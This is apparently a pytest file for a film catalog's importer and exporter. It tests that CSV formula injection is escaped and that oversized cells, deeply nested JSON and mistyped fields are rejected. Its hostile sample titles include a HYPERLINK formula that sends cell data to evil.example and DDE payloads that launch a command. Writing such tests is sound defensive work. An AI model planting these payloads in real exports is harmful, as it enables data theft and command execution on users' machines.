"""Files an attacker (or a careless spreadsheet) hands the importer, and files the catalog
writes for people: formulas, line breaks, huge cells, deep JSON, lists where text belongs."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import func
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from catalog.fields import FORMULA_STARTS, one_line, spreadsheet_safe
from catalog.ingest import IngestError, RowsRejected
from catalog.models import Film
from web.usecases import cataloguing

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Voir")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "-30- (un vrai titre)",
]


def write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    buffer = io.StringIO()
    # Quoted, so that a bare \r in a cell stays inside it.
    writer = csv.DictWriter(
        buffer, fieldnames=list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL
    )
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def films(engine: Engine) -> int:
    with Session(engine) as session:
        return session.exec(select(func.count()).select_from(Film)).one()


def hostile_catalog(tmp_path: Path) -> Path:
    rows = [
        {
            "external_id": f"h-{i}",
            "original_title": title,
            "year": "2020",
            "runtime": "12 min",
            "directors": "=cmd|'/C calc'!A0" if i == 0 else f"Réal {i}",
            "synopsis_fr": "Première ligne\rdeuxième ligne" if i == 1 else "Un film.",
            "region": "01",
        }
        for i, title in enumerate(HOSTILE_TITLES)
    ]
    return write_csv(tmp_path / "hostile.csv", rows)


def test_no_exported_cell_starts_a_formula_and_the_export_reimports_the_same(
    engine: Engine, tmp_path: Path
) -> None:
    cataloguing.import_catalog(engine, hostile_catalog(tmp_path))
    exported = cataloguing.export(engine, "csv", None)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(" in exported
    # Re-importing the export changes nothing: the apostrophes come off again.
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    with Session(engine) as session:
        titles = sorted(session.exec(select(Film.original_title)).all())
    assert titles == sorted(t.strip() for t in HOSTILE_TITLES)
    report = cataloguing.import_catalog(engine, again)
    assert (report.created, report.updated) == (0, 0)
    assert cataloguing.export(engine, "csv", None) == exported


def test_a_bare_carriage_return_survives_the_round_trip(engine: Engine, tmp_path: Path) -> None:
    cataloguing.import_catalog(engine, hostile_catalog(tmp_path))
    with Session(engine) as session:
        synopses = session.exec(select(Film.synopsis_fr)).all()
    assert "Première ligne\ndeuxième ligne" in synopses
    exported = cataloguing.export(engine, "csv", None)
    assert "\r" not in exported
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert len(rows) == len(HOSTILE_TITLES)


def test_spreadsheet_helpers() -> None:
    assert spreadsheet_safe("=1+1") == "'=1+1"
    assert spreadsheet_safe("Le fleuve") == "Le fleuve"
    assert spreadsheet_safe("'quoted") == "'quoted"
    assert one_line("Titre\n#EXTINF:0,piège\r\nhttp://evil") == "Titre #EXTINF:0,piège http://evil"


def test_a_cell_over_the_csv_limit_is_a_row_error_not_a_traceback(
    engine: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "huge.csv"
    path.write_text(
        "original_title,synopsis_fr\nUn,court\nDeux," + "x" * (200 * 1024) + "\nTrois,court\n",
        encoding="utf-8",
    )
    with pytest.raises(RowsRejected) as rejected:
        cataloguing.import_catalog(engine, path)
    (error,) = rejected.value.errors
    assert error.line == 3 and "cannot be read as CSV" in error.message
    assert films(engine) == 0


def test_deeply_nested_json_is_a_row_error(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "deep.jsonl"
    nested = "[" * 100_000 + "]" * 100_000
    path.write_text(
        json.dumps({"original_title": "Un"}) + "\n" + '{"original_title": ' + nested + "}\n",
        encoding="utf-8",
    )
    with pytest.raises(RowsRejected) as rejected:
        cataloguing.import_catalog(engine, path)
    assert [(e.line, "nested too deeply" in e.message) for e in rejected.value.errors] == [
        (2, True)
    ]
    assert films(engine) == 0


@pytest.mark.parametrize("value", [["a", "b"], {"fr": "Titre"}])
def test_a_list_or_object_where_text_belongs_is_refused(
    engine: Engine, tmp_path: Path, value: object
) -> None:
    path = tmp_path / "typed.jsonl"
    path.write_text(
        json.dumps({"original_title": "Un", "synopsis_fr": value}) + "\n", encoding="utf-8"
    )
    with pytest.raises(RowsRejected) as rejected:
        cataloguing.import_catalog(engine, path)
    (error,) = rejected.value.errors
    assert error.field == "synopsis_fr" and "takes one value" in error.message
    assert films(engine) == 0


def test_an_unreadable_header_names_the_file(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "header.csv"
    path.write_text('"' + "x" * (200 * 1024) + '",b\n', encoding="utf-8")
    with pytest.raises(IngestError, match=r"header\.csv: line 1"):
        cataloguing.import_catalog(engine, path)
